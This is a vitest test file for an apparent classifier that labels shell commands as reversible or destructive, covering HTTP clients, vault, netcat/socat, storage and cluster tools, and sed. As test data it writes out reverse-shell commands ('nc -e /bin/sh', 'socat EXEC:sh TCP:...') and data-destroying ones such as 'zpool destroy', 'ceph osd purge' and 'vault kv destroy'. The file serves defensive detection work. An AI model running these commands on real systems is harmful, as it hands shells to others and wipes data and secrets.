import { describe } from 'vitest';
import { itReads } from './meaning.js';

describe('programs that ask servers and stores', () => {
  itReads(
    'servers asked',
    `
wget https://x.example
  => - | - | - | - | - | - | read none reversible
wget --method=DELETE https://x.example
  => - | - | - | - | - | - | delete unknown DESTRUCTIVE ~ destroys: Asks a server to delete.
wget --method=PUT https://x.example
  => - | - | - | - | - | - | execute unknown
http DELETE x.example
  => - | - | - | - | - | - | delete unknown DESTRUCTIVE ~ destroys: Asks a server to delete.
http POST x.example
  => - | - | - | - | - | - | execute unknown
http GET x.example
  => - | - | - | - | - | - | read none reversible
xh PUT x.example
  => - | - | - | - | - | - | execute unknown
`,
  );

  itReads(
    'secrets',
    `
vault read secret/x
  => - | - | - | - | - | - | change unknown reversible
vault delete secret/x
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Takes secrets away.
vault kv destroy x
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Takes secrets away.
vault operator seal
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Takes secrets away.
vault token revoke x
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Takes secrets away.
vault auth disable x
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Takes secrets away.
vault kv get a delete
  => - | - | - | - | - | - | change unknown reversible
`,
  );

  itReads(
    'shells handed over',
    `
nc -zv db 5432
  => - | - | - | - | - | - | execute unknown
nc -e /bin/sh x 1
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ dynamic-code: Hands a program to another machine.
nc -c sh x 1
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ dynamic-code: Hands a program to another machine.
ncat --exec sh x 1
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ dynamic-code: Hands a program to another machine.
ncat --sh-exec ls x 1
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ dynamic-code: Hands a program to another machine.
socat EXEC:sh TCP:x:1
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ dynamic-code: Hands a program to another machine.
socat exec:sh TCP:x:1
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ dynamic-code: Hands a program to another machine.
netcat x 1
  => - | - | - | - | - | - | execute unknown
`,
  );

  itReads(
    'stores and clusters',
    `
pulumi up
  => - | - | - | - | - | - | change unknown reversible
pulumi destroy
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Takes infrastructure away.
etcdctl get a
  => - | - | - | - | - | - | change unknown reversible
etcdctl del a
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes keys or members.
etcdctl member remove x
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes keys or members.
etcdctl rm a
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes keys or members.
kafka-topics --list
  => - | - | - | - | - | - | change unknown reversible
kafka-topics --delete --topic t
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes a topic.
kafka-topics.sh --delete --topic t
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes a topic.
rabbitmqctl list_queues
  => - | - | - | - | - | - | change unknown reversible
rabbitmqctl purge_queue q
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes queues or members.
rabbitmqctl delete_queue q
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes queues or members.
rabbitmqctl reset
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes queues or members.
rabbitmqctl forget_cluster_node n
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes queues or members.
zfs list
  => - | - | - | - | - | - | change unknown reversible
zfs destroy p/a
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes data sets.
zfs rollback p/a@1
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes data sets.
zpool status
  => - | - | - | - | - | - | change unknown reversible
zpool destroy p
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes a pool.
gsutil ls gs://b
  => - | - | - | - | - | - | change unknown reversible
gsutil rm gs://b/a
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes objects.
gsutil rb gs://b
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes objects.
kubeadm reset
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Takes the node out of its cluster.
kubeadm token list
  => - | - | - | - | - | - | change unknown reversible
ceph status
  => - | - | - | - | - | - | change unknown reversible
ceph osd pool delete p
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes stored data.
ceph osd purge 1
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes stored data.
ceph osd destroy 1
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes stored data.
ceph osd rm 1
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Deletes stored data.
`,
  );

  itReads(
    'curl',
    `
curl https://x.example
  => - | - | - | - | - | - | read none reversible
curl -X DELETE https://x.example
  => - | - | - | - | - | - | delete unknown DESTRUCTIVE ~ destroys: Asks a server to delete.
curl -XDELETE https://x.example
  => - | - | - | - | - | - | delete unknown DESTRUCTIVE ~ destroys: Asks a server to delete.
curl -sX DELETE https://x.example
  => - | - | - | - | - | - | delete unknown DESTRUCTIVE ~ destroys: Asks a server to delete.
curl -X=delete https://x.example
  => - | - | - | - | - | - | delete unknown DESTRUCTIVE ~ destroys: Asks a server to delete.
curl --request DELETE https://x.example
  => - | - | - | - | - | - | delete unknown DESTRUCTIVE ~ destroys: Asks a server to delete.
curl --request=DELETE https://x.example
  => - | - | - | - | - | - | delete unknown DESTRUCTIVE ~ destroys: Asks a server to delete.
curl -X POST https://x.example
  => - | - | - | - | - | - | execute unknown
curl -d a https://x.example
  => - | - | - | - | - | - | execute unknown
curl --data-binary a https://x.example
  => - | - | - | - | - | - | execute unknown
curl -T a https://x.example
  => - | - | - | - | - | - | execute unknown
curl --upload-file a https://x.example
  => - | - | - | - | - | - | execute unknown
curl -F a=b https://x.example
  => - | - | - | - | - | - | execute unknown
curl --request=PUT https://x.example
  => - | - | - | - | - | - | execute unknown
curl -X GET https://DELETE.example
  => - | - | - | - | - | - | execute unknown
`,
  );

  itReads(
    'files edited in place',
    `
sed -i s/a/b/ /etc/hosts
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Edits a file of the system.
sed -i.bak s/a/b/ /usr/lib/x
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Edits a file of the system.
sed --in-place s/a/b/ /boot/x
  => - | - | - | - | - | - | change unknown DESTRUCTIVE ~ destroys: Edits a file of the system.
sed -i s/a/b/ a.txt
  => - | - | - | - | - | - | change unknown reversible
sed s/a/b/ /etc/hosts
  => - | - | - | - | - | - | change unknown reversible
`,
  );
});
